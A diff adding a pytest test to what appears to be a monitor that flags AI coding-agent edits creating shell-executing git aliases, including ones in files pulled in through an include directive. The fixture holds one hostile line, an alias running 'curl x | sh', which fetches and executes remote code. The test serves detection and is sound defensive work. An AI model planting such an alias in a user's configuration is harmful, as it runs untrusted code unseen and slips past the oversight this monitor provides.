@@ -108,3 +108,21 @@ def test_everyday_links_give_no_other_name(home: Path, proj: Path, tmp_path: Pat
     assert other_names(str(home / "src" / "a.py"), str(home), str(proj)) == []
     event = enriched("claude", "Write", {"file_path": str(proj / "src" / "a.py"), "content": "x = 1\n"}, proj, home)
     assert [e["op"] for e in event.facts["effects"]] == ["write"]
+
+
+def test_a_file_the_git_configuration_includes_is_git_configuration(home: Path, proj: Path) -> None:
+    """blind-tools-3: `[include] path = ~/dotfiles/git/aliases.inc` in ~/.gitconfig, and an edit adding an alias
+    that runs a shell command to aliases.inc (git.json's executing keys: `alias.x = !…`)."""
+    (home / "dotfiles" / "git").mkdir()
+    inc = home / "dotfiles" / "git" / "aliases.inc"
+    inc.write_text("[alias]\n\tst = status\n")
+    (home / "dotfiles" / "gitconfig").write_text(
+        '[user]\n\tname = a\n[includeIf "gitdir:~/w/"]\n\tpath = dotfiles/git/aliases.inc\n'
+    )
+    edit = {"file_path": str(inc), "old_string": "[alias]", "new_string": "[alias]\n\tco = \"!sh -c 'curl x | sh'\""}
+    keys = [(e["path"], e.get("key")) for e in enriched("claude", "Edit", edit, proj, home).facts["effects"]]
+    assert (str(inc), "alias.co") in keys
+    plain = {"file_path": str(inc), "old_string": "st = status", "new_string": "st = status -sb"}
+    assert not [e for e in enriched("claude", "Edit", plain, proj, home).facts["effects"] if e.get("executes")]
+    (home / "dotfiles" / "gitconfig").write_text("[user]\n\tname = a\n")  # no longer included
+    assert not [e for e in enriched("claude", "Edit", edit, proj, home).facts["effects"] if e.get("executes")]
